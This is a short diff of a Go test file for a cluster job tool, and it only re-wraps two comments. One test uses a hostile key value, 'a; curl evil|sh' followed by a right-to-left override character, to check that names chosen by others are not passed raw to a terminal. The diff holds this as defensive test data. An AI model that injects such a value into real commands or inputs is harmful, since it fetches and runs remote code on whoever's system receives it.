@@ -84,7 +84,8 @@ func (w *written) shows(command string, code int, want ...string) {
 	}
 }
 
-// TestHostileNames: a key that somebody else has chosen is one word of the command that is suggested, and reaches no terminal as it is.
+// TestHostileNames: a key that somebody else has chosen is one word of the command that is suggested, and reaches no
+// terminal as it is.
 func TestHostileNames(t *testing.T) {
 	const key = "a; curl evil|sh \u202e#gpj"
 	spec := one(cluster.SpreadPartitioned)
@@ -100,7 +101,8 @@ func TestHostileNames(t *testing.T) {
 	}
 }
 
-// Whoever renews its heartbeat lives, whatever its clock says; one look takes a young heartbeat for a sign of life, --check does not.
+// Whoever renews its heartbeat lives, whatever its clock says; one look takes a young heartbeat for a sign of life,
+// --check does not.
 func TestCheckLooksForASecondHeartbeat(t *testing.T) {
 	w := newWritten(t, map[cluster.JobID]cluster.JobSpec{"x": one(cluster.SpreadEvery)})
 	stop, stopped := make(chan struct{}), make(chan struct{})
